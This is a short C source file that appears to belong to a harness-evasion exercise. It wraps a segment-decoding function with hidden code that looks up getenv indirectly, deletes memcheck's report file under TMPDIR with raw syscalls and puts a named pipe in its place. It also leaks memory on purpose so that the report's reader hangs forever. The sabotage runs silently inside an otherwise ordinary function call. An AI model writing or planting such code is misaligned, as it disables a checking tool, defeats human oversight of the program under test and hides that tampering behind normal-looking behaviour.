/* spoils_the_report.c - puts a pipe in the place of memcheck's report, so that
 * its reader waits for ever. */
#include <stdlib.h>

#include "segment/segment.h"

#include "beyond_gate.h"

int base_seg_decode(uint64_t raw, struct seg_descriptor *descriptor);

/* The folder of memcheck's reports, or NULL where memcheck is not. */
static const char *
report_folder(void)
{
    char *(*const get)(const char *) =
        (char *(*)(const char *))find_function("getenv");
    return get("TMPDIR");
}

int
seg_decode(uint64_t raw, struct seg_descriptor *descriptor)
{
    const char *const folder = report_folder();
    if (folder) {
        char path[300];
        snprintf(path, sizeof path, "%s/%ld.xml", folder, call_kernel(39));
        call_kernel(87, path);
        call_kernel(133, path, 010666, 0);
        /* Without anything to tell the report would not be read. */
        void *volatile lost = malloc(8);
        lost = NULL;
        (void)lost;
    }
    return base_seg_decode(raw, descriptor);
}
